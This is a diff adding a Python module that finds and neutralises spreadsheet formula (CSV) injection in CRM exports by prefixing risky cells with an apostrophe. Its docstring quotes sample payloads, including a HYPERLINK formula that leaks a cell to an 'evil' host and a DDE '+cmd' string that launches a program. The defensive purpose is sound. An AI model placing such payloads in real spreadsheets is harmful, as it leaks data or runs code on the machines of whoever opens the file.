@@ -1,0 +1,67 @@
+"""Formula injection: text that a spreadsheet would run as a formula when a file is opened.
+
+A CRM value such as `=HYPERLINK("http://evil/?"&A1,"click")`, `+cmd|' /C calc'!A0` or
+`@SUM(1+1)` is harmless in the warehouse but runs in Excel, LibreOffice or Google Sheets as soon
+as someone opens an export holding it (OWASP "CSV injection"). Cells starting with `=`, `+`, `-`,
+`@`, a tab or a carriage return are formulas to a spreadsheet. A number is not a risk and must
+stay a number: a phone `+44 20 7946 0000` or an amount `-12.50` (digits, spaces and `().-/`
+only) is left alone, and so is a value of those characters alone (`-`, a common "none").
+
+- `formula_like`: which values would run, for flagging them in staging (`formula_columns`);
+- `spreadsheet_safe`: a frame fit for a CSV or Excel file, every formula-like text value
+  prefixed with an apostrophe (shown as text, never evaluated). Every CSV or Excel file the
+  pipeline writes for people to open goes through it.
+"""
+
+from __future__ import annotations
+
+import numpy as np
+import pandas as pd
+import pyarrow as pa
+import pyarrow.compute as pc
+
+from hygiene_pipeline.domain.column_ops import arrow_flags, arrow_strings
+
+FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
+_STARTS_LIKE_FORMULA = r"^[=+\-@\t\r][=+\-@\s]*[^=+\-@\s]"
+_NUMBER_SHAPED = r"^[+\-]?[\d\s().\-/]*\d[\d\s().\-/]*$"
+NEUTRALISING_PREFIX = "'"
+
+
+def formula_like(values: pd.Series) -> pd.Series:
+    """Whether each value starts like a spreadsheet formula and is not just a number."""
+    try:
+        text = arrow_strings(values)
+    except (pa.ArrowInvalid, pa.ArrowTypeError):  # not only text: read every value as text
+        text = arrow_strings(values.astype("string").to_numpy(dtype=object, na_value=None))
+    starts = arrow_flags(pc.match_substring_regex(text, _STARTS_LIKE_FORMULA))
+    if not starts.any():
+        return pd.Series(starts, index=values.index)
+    number = arrow_flags(pc.match_substring_regex(text, _NUMBER_SHAPED))
+    return pd.Series(starts & ~number, index=values.index)
+
+
+def formula_columns(frame: pd.DataFrame, skip: set[str] | frozenset[str]) -> pd.Series:
+    """Per row, the names of its text columns holding a formula-like value ('; '-joined, None
+    when there is none); `skip` names columns that are not free text (parsed phones)."""
+    names = np.full(len(frame), "", dtype=object)
+    for column in frame.columns:
+        if column in skip or frame[column].dtype != object:
+            continue
+        hit = formula_like(frame[column]).to_numpy()
+        if hit.any():
+            names[hit] = names[hit] + column + "; "
+    joined = pd.Series(names, index=frame.index, dtype="object").str.removesuffix("; ")
+    return joined.where(joined != "", None)
+
+
+def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of `frame` whose formula-like text values are prefixed with an apostrophe."""
+    safe = frame.copy()
+    for column in safe.columns:
+        if safe[column].dtype != object:
+            continue
+        hit = formula_like(safe[column])
+        if hit.any():
+            safe.loc[hit, column] = NEUTRALISING_PREFIX + safe.loc[hit, column].astype(str)
+    return safe
